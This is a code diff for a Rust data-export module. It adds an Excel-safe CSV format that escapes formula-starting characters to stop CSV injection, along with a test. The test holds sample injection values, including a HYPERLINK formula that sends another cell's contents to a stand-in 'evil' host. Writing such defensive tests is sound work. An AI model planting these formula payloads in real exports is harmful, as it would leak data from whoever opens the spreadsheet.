@@ -72,11 +72,11 @@ pub(super) fn readings_body(
             ("application/json", begin, format!("],\"next\":{},\"complete\":{complete}}}", Json::from(next.clone())))
         }
         Format::Ndjson => ("application/x-ndjson", String::new(), String::new()),
-        Format::Csv => {
+        Format::Csv | Format::CsvExcel => {
             let mut begin = "ts".to_owned();
             columns.iter().for_each(|column| {
                 begin.push(',');
-                csv_text(&mut begin, column);
+                csv_cell(&mut begin, column, format);
             });
             ("text/csv; charset=utf-8; header=present", begin + "\r\n", String::new())
         }
@@ -115,7 +115,7 @@ impl BodyChunks {
                     row_json(&mut piece, &row);
                     piece.push('\n');
                 }
-                Format::Csv => row_csv(&mut piece, &row, &self.columns),
+                Format::Csv | Format::CsvExcel => row_csv(&mut piece, &row, &self.columns, self.format),
             }
         }
         if self.rows.is_empty() {
@@ -143,7 +143,7 @@ fn row_json(out: &mut String, row: &Row<'_>) {
     out.push_str("}}");
 }
 
-fn row_csv(out: &mut String, row: &Row<'_>, columns: &[String]) {
+fn row_csv(out: &mut String, row: &Row<'_>, columns: &[String], format: Format) {
     let mut values: Vec<(&str, ValueRef<'_>)> = row.named().collect();
     values.sort_by_key(|(name, _)| *name);
     out.push_str(&rfc3339(row.ts_ms));
@@ -153,11 +153,36 @@ fn row_csv(out: &mut String, row: &Row<'_>, columns: &[String]) {
         match values[at].1 {
             // Distinguishes an empty text from an absent one.
             ValueRef::Str("") => out.push_str("\"\""),
-            ValueRef::Str(text) => csv_text(out, text),
+            ValueRef::Str(text) => csv_cell(out, text, format),
             other => out.push_str(&value_json(other).to_string()),
         }
     }
     out.push_str("\r\n");
+}
+
+fn csv_cell(out: &mut String, text: &str, format: Format) {
+    if format == Format::CsvExcel { excel_text(out, text) } else { csv_text(out, text) }
+}
+
+/// A cell in which a spreadsheet finds no formula (OWASP, "CSV Injection"; ASVS 5.0, 1.2.10): always quoted, and a
+/// character that begins a formula has a single quote before it, at the beginning of the cell and after a character that
+/// some spreadsheets split cells at. (Where Excel expects semicolons, the quotes of this format do not count.)
+fn excel_text(out: &mut String, text: &str) {
+    let begins_formula =
+        |c: char| matches!(c, '=' | '+' | '-' | '@' | '\t' | '\r' | '\n' | '\0' | '＝' | '＋' | '－' | '＠');
+    let mut is_start = true;
+    out.push('"');
+    for c in text.chars() {
+        if is_start && begins_formula(c) {
+            out.push('\'');
+        }
+        is_start = matches!(c, ',' | ';' | '|' | '\t' | '\r' | '\n');
+        if c == '"' {
+            out.push('"');
+        }
+        out.push(c);
+    }
+    out.push('"');
 }
 
 /// RFC 4180 §2: quoted if it contains a separator or a quote, with quotes doubled.
@@ -215,5 +240,47 @@ mod tests {
         assert_eq!(body(Format::Ndjson, Rows::default()).await, "");
         assert_eq!(body(Format::Csv, Rows::default()).await, "ts\r\n");
         serde_json::from_str::<Json>(&body(Format::Json, Rows::default()).await).unwrap();
+    }
+
+    #[tokio::test]
+    async fn a_spreadsheet_finds_no_formula_in_csv_of_its_own() {
+        let evil = "=HYPERLINK(\"http://evil/\"&A1)";
+        let mut rows = Rows::default();
+        for (i, text) in
+            [evil, "+1", "-1", "@SUM(1)", "\t=1", "\r=1", "＝1", "a;=1", "a\n=1", "1,-2", "a - b", "plain", "", "'=1"]
+                .into_iter()
+                .enumerate()
+        {
+            rows.push_named(i as i64, RowFlags::default(), &[("t", ValueRef::Str(text))]);
+        }
+        let numbers = [("=n", ValueRef::Int(-5)), ("d", ValueRef::Double(-0.5)), ("on", ValueRef::Bool(true))];
+        rows.push_named(99, RowFlags::default(), &numbers);
+        let plain = body(Format::Csv, rows.clone()).await;
+        assert!(plain.starts_with("ts,=n,d,on,t\r\n") && plain.contains(",-1\r\n"), "unchanged without it: {plain}");
+        let excel = body(Format::CsvExcel, rows).await;
+        assert!(excel.starts_with("ts,\"'=n\",\"d\",\"on\",\"t\"\r\n"), "{excel}");
+        for (i, cell) in [
+            "'=HYPERLINK(\"\"http://evil/\"\"&A1)",
+            "'+1",
+            "'-1",
+            "'@SUM(1)",
+            "'\t'=1",
+            "'\r'=1",
+            "'＝1",
+            "a;'=1",
+            "a\n'=1",
+            "1,'-2",
+            "a - b",
+            "plain",
+            "",
+            "'=1",
+        ]
+        .into_iter()
+        .enumerate()
+        {
+            let line = format!("\r\n1970-01-01T00:00:00.{i:03}Z,,,,\"{cell}\"\r\n");
+            assert!(excel.contains(&line), "{line:?} in {excel}");
+        }
+        assert!(excel.ends_with("1970-01-01T00:00:00.099Z,-5,-0.5,true,\r\n"), "numbers stay numbers: {excel}");
     }
 }
